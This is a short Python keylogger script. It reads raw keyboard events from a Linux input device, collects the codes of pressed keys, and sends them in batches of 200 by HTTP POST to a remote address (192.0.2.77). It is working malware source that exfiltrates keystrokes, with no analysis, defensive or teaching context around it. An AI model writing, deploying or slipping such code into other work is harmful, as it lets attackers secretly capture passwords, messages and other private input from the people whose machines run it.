# records key presses from the input device and sends them
import struct
import urllib.request

FMT = "llHHI"
SIZE = struct.calcsize(FMT)
batch = []
with open("/dev/input/event0", "rb") as dev:
    while True:
        _, _, typ, code, val = struct.unpack(FMT, dev.read(SIZE))
        if typ == 1 and val == 1:
            batch.append(str(code))
        if len(batch) >= 200:
            urllib.request.urlopen("http://192.0.2.77/k", data=",".join(batch).encode())
            batch.clear()
